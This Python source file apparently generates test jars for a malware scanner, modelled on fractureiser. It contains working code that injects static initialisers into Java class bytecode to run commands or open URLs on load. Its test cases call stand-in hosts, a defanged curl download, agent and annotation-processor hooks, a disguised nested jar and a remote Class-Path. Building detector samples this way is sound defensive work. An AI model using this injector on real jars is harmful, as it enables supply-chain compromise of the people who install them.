"""Seventh set: jars whose classes get a static initialiser; its bytecode names hosts and programs that are nobody's (JVMS 4).

After fractureiser, 2023, which put such an initialiser into the first class of hundreds of modifications of a game.
"""

from __future__ import annotations

import re
import struct
from collections.abc import Iterator

from genuine import Files

from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_ways import Changes, Way, adding, together, ways
from onionskin.lookalike.archives import build_zip

MANIFEST = "META-INF/MANIFEST.MF"
STATIC, PUBLIC_SUPER = 8, 0x21
SIZES = {3: 5, 4: 5, 5: 9, 6: 9, 7: 3, 8: 3, 9: 5, 10: 5, 11: 5, 12: 5, 15: 4, 16: 3, 17: 5, 18: 5, 19: 3, 20: 3}  # fmt: skip


class Pool:
    """Constants that come behind those of a class."""

    def __init__(self, count: int = 1) -> None:
        self.count, self.data = count, b""

    def _add(self, entry: bytes) -> int:
        self.data += entry
        self.count += 1
        return self.count - 1

    def text(self, value: str) -> int:
        """Return the number of a new text."""
        return self._add(struct.pack(">BH", 1, len(value.encode())) + value.encode())

    def one(self, tag: int, value: str) -> int:
        """Return the number of a new class (7) or string (8)."""
        return self._add(struct.pack(">BH", tag, self.text(value)))

    def method(self, owner: str, name: str, kind: str) -> int:
        """Return the number of a new method of another class."""
        place = self._add(struct.pack(">BHH", 12, self.text(name), self.text(kind)))
        return self._add(struct.pack(">BHH", 10, self.one(7, owner), place))


def starting(pool: Pool, order: str) -> bytes:
    """Return code that would start a program."""
    runtime = "java/lang/Runtime"
    first = pool.method(runtime, "getRuntime", "()Ljava/lang/Runtime;")
    start = pool.method(runtime, "exec", "(Ljava/lang/String;)Ljava/lang/Process;")
    return struct.pack(">BHBHBHBB", 0xB8, first, 0x13, pool.one(8, order), 0xB6, start, 0x57, 0xB1)


def asking(pool: Pool, address: str) -> bytes:
    """Return code that would open an address."""
    made, text = pool.one(7, "java/net/URL"), pool.one(8, address)
    begin = pool.method("java/net/URL", "<init>", "(Ljava/lang/String;)V")
    stream = pool.method("java/net/URL", "openStream", "()Ljava/io/InputStream;")
    return struct.pack(">BHBBHBHBHBB", 0xBB, made, 0x59, 0x13, text, 0xB7, begin, 0xB6, stream, 0x57, 0xB1)  # fmt: skip


def initialiser(pool: Pool, order: str) -> bytes:
    """Return a static initialiser: an address is opened, any other order is started."""
    code = asking(pool, order) if order.startswith("http") else starting(pool, order)
    body = struct.pack(">HHI", 3, 0, len(code)) + code + bytes(4)
    return struct.pack(">HHHHHI", STATIC, pool.text("<clinit>"), pool.text("()V"), 1, pool.text("Code"), len(body)) + body  # fmt: skip


def new_class(name: str, order: str, parent: str = "java/lang/Object") -> bytes:
    """Return a class of nothing but a static initialiser."""
    pool = Pool()
    own, above = pool.one(7, name), pool.one(7, parent)
    method = initialiser(pool, order)
    head = struct.pack(">IHHH", 0xCAFEBABE, 0, 49, pool.count) + pool.data
    return head + struct.pack(">HHHHHH", PUBLIC_SUPER, own, above, 0, 0, 1) + method + bytes(2)


def _constants(data: bytes) -> tuple[int, int]:
    """Return how many constants a class has, and where they end."""
    count, at, number = struct.unpack_from(">H", data, 8)[0], 10, 1
    while number < count:
        tag = data[at]
        at += 3 + struct.unpack_from(">H", data, at + 1)[0] if tag == 1 else SIZES[tag]
        number += 2 if tag in {5, 6} else 1
    return count, at


def _members(data: bytes, at: int) -> int:
    """Return where a table of fields or methods ends."""
    count = struct.unpack_from(">H", data, at)[0]
    at += 2
    for _ in range(count):
        held = struct.unpack_from(">H", data, at + 6)[0]
        at += 8
        for _ in range(held):
            at += 6 + struct.unpack_from(">I", data, at + 2)[0]
    return at


def with_initialiser(data: bytes, order: str) -> bytes:
    """Return a class with a static initialiser; nothing where it has one."""
    if b"<clinit>" in data:
        return b""
    count, end = _constants(data)
    interfaces = struct.unpack_from(">H", data, end + 6)[0]
    methods = _members(data, end + 8 + 2 * interfaces)
    last = _members(data, methods)
    pool = Pool(count)
    method = initialiser(pool, order)
    number = struct.pack(">H", struct.unpack_from(">H", data, methods)[0] + 1)
    head = data[:8] + struct.pack(">H", pool.count) + data[10:end] + pool.data
    return head + data[end:methods] + number + data[methods + 2 : last] + method + data[last:]


def classes(files: Files) -> Iterator[str]:
    """Yield the classes of a jar, the largest first."""
    names = (each for each in files if each.endswith(".class") and "module-info" not in each)
    yield from sorted(names, key=lambda name: (-len(files[name]), name))


def initialised(order: str, which: int = 0) -> Changes:
    """Return a change that puts an initialiser into one class that has none."""

    def change(files: Files) -> Files:
        made = ((name, with_initialiser(files[name], order)) for name in classes(files))
        found = [(name, data) for name, data in made if data]
        return dict(found[which : which + 1])

    return change


def told(lines: bytes) -> Changes:
    """Return a change that adds lines to the main part of a jar's manifest."""

    def change(files: Files) -> Files:
        data = files.get(MANIFEST, b"Manifest-Version: 1.0\r\n")
        end = re.search(rb"\r?\n\r?\n|\r?\n\Z|\Z", data)
        at = end.start() if end else len(data)
        return {MANIFEST: data[:at] + b"\r\n" + lines.strip() + (data[at:] or b"\r\n")}

    return change


def later(files: Files) -> Files:
    """Return a jar's files as its next patch would name itself."""
    return files | told(b"Implementation-Build: 2")(files)


AGENT, PROVIDER = "org/support/Agent", "org/support/Provider"
ALL: tuple[Way, ...] = (
    *ways("jar: a class does something as it is loaded", ("fetches", initialised("http://203.0.113.217:8080/dl")), ("starts", initialised("sh-inert -c 'curl -s https://j.example/s'", 1)), ("in a small one", initialised("https://api.mod-updates.example/v1", 5))),
    # Invented, after agents of launchers: loaded before all else, or into others' programs.
    *ways("jar: loaded into other programs", ("an agent", together(told(b"Launcher-Agent-Class: org.support.Agent\r\nPremain-Class: org.support.Agent"), adding({f"{AGENT}.class": new_class(AGENT, "https://agent.example/a")}))), ("a processor of annotations", adding({"META-INF/services/javax.annotation.processing.Processor": b"org.support.Provider\n", f"{PROVIDER}.class": new_class(PROVIDER, "sh-inert", "javax/annotation/processing/AbstractProcessor")}))),
    *ways("jar: code within its resources", ("a jar, and who asks for it", together(initialised("java -jar assets/fonts.bin"), adding({"assets/fonts.bin": build_zip({f"{AGENT}.class": new_class(AGENT, "https://n.example/x")})}))), ("a program", together(initialised("./native/helper"), adding({"native/helper": ELF_FILE})))),
    *ways("jar: its path of classes leads elsewhere", ("an address", told(b"Class-Path: http://198.51.100.5/lib/core.jar"))),
)  # fmt: skip
